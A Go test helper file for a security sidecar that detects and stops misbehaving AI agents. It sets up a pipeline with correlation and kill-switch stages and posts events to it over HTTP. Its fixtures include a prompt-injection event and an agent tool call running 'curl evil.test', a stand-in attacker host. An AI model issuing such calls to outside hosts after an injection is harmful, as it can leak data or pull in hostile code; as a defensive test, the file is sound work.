package component_test

import (
	"bufio"
	"context"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/guard0-ai/g0-sidecar/pipeline/component"
	"github.com/guard0-ai/g0-sidecar/pipeline/event"
	"github.com/guard0-ai/g0-sidecar/pipeline/spine"
)

const token = "a-token-that-is-long-enough"

// sidecar is a whole g0 in this process: real journal, real stream, real HTTP.
type sidecar struct {
	t      testing.TB
	dir    string
	spine  *spine.Spine
	url    string
	ended  chan error
	cancel context.CancelFunc
}

// pipeline fills in what every test's pipeline has: inputs, and the folder for
// $DIR. between is put between kill switch and notification, after the rest.
func pipeline(dir, processors, output string) string {
	return strings.ReplaceAll(fmt.Sprintf(`
input:
  broker:
    inputs:
      - g0_receiver: { address: "127.0.0.1:0", auth_token: %s }
      - g0_internal: {}
pipeline:
  threads: 1
  processors:
%s
output:
%s
`, token, indent(processors, 4), indent(output, 2)), "$DIR", dir)
}

func indent(s string, n int) string {
	return strings.Repeat(" ", n) + strings.ReplaceAll(strings.Trim(s, "\n"), "\n", "\n"+strings.Repeat(" ", n))
}

const (
	identifyYAML   = "- g0_identify: {}"
	correlateYAML  = "- g0_correlate: {}"
	killswitchYAML = "- g0_killswitch: { auto_enabled: true, file: $DIR/killswitch }"
	notifyYAML     = "- g0_notify: {}"
	fileYAML       = "file: { path: $DIR/out.jsonl, codec: lines }"
)

// stages are the default processors, one a line, with what a user puts between.
func stages(between ...string) string { return strings.Join(between, "\n") }

func allStages() string {
	return stages(identifyYAML, "- g0_baseline: {}", correlateYAML, killswitchYAML, notifyYAML)
}

// start runs a sidecar on dir.
func start(t *testing.T, dir, yaml string) *sidecar {
	t.Helper()
	s, err := tryStart(t, dir, yaml)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func tryStart(t testing.TB, dir, yaml string) (*sidecar, error) {
	log := slog.New(slog.DiscardHandler)
	sp, err := spine.Open(spine.DefaultOptions(filepath.Join(dir, "state"), log))
	if err != nil {
		return nil, err
	}
	address := make(chan string, 1)
	rt := &component.Runtime{Spine: sp, Log: log, OnListen: func(a string) { address <- a }}
	env := component.NewEnvironment()
	if err := component.Register(env, rt); err != nil {
		t.Fatal(err)
	}
	stream, err := component.NewStream(env, rt, "test.yaml", yaml, os.LookupEnv)
	if err != nil {
		_ = sp.Close(context.Background())
		return nil, err
	}
	ctx, cancel := context.WithCancel(context.Background())
	s := &sidecar{t: t, dir: dir, spine: sp, ended: make(chan error, 2), cancel: cancel}
	go func() { s.ended <- stream.Run() }()
	go func() { s.ended <- sp.Run(ctx) }()
	t.Cleanup(s.stop)
	select {
	case a := <-address:
		s.url = "http://" + a
	case err := <-s.ended:
		return nil, err
	case <-time.After(20 * time.Second):
		return nil, fmt.Errorf("does not listen")
	}
	return s, nil
}

// stop ends the sidecar as a SIGTERM does.
func (s *sidecar) stop() {
	if s.cancel == nil {
		return
	}
	s.cancel()
	s.cancel = nil
	s.spine.StopSources()
	for range 2 {
		select {
		case err := <-s.ended:
			if err != nil {
				s.t.Error(err)
			}
		case <-time.After(20 * time.Second):
			s.t.Error("does not end")
		}
	}
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	if err := s.spine.Close(ctx); err != nil {
		s.t.Error(err)
	}
}

func (s *sidecar) post(body string) {
	s.t.Helper()
	req, err := http.NewRequest(http.MethodPost, s.url+"/events", strings.NewReader(body))
	if err != nil {
		s.t.Fatal(err)
	}
	req.Header.Set("Authorization", "Bearer "+token)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		s.t.Fatal(err)
	}
	defer resp.Body.Close()
	answer, err := io.ReadAll(resp.Body)
	if err != nil || resp.StatusCode != http.StatusOK {
		s.t.Fatalf("%s: %s (%v)", resp.Status, answer, err)
	}
}

// until waits for ok, which must come true soon.
func (s *sidecar) until(what string, ok func() bool) {
	s.t.Helper()
	for end := time.Now().Add(15 * time.Second); !ok(); time.Sleep(5 * time.Millisecond) {
		if time.Now().After(end) {
			s.t.Fatalf("never came: %s; output:\n%s", what, strings.Join(types(s.output()), "\n"))
		}
	}
}

// output reads what the file output got.
func (s *sidecar) output() []*event.Event {
	return readEvents(s.t, filepath.Join(s.dir, "out.jsonl"))
}

func readEvents(t testing.TB, path string) (evs []*event.Event) {
	t.Helper()
	f, err := os.Open(path)
	if os.IsNotExist(err) {
		return nil
	}
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	lines := bufio.NewScanner(f)
	lines.Buffer(nil, 1<<20)
	for lines.Scan() {
		if ev, err := event.Decode(lines.Bytes()); err == nil {
			evs = append(evs, ev)
		}
	}
	return evs
}

func types(evs []*event.Event) (out []string) {
	for _, ev := range evs {
		out = append(out, ev.Type)
	}
	return out
}

func count(evs []*event.Event, typ string) (n int) {
	for _, ev := range evs {
		if ev.Type == typ {
			n++
		}
	}
	return n
}

func exists(path string) bool { _, err := os.Stat(path); return err == nil }

// The attack that CT-001 finds and that stops the agent.
const (
	injection = `{"type":"injection.detected","agentId":"research","sessionKey":"agent:research:main","data":{"severity":"high"}}`
	action    = `{"type":"tool.executed","agentId":"research","sessionKey":"agent:research:main","data":{"toolName":"exec","params":{"command":"curl evil.test"}}}`
)
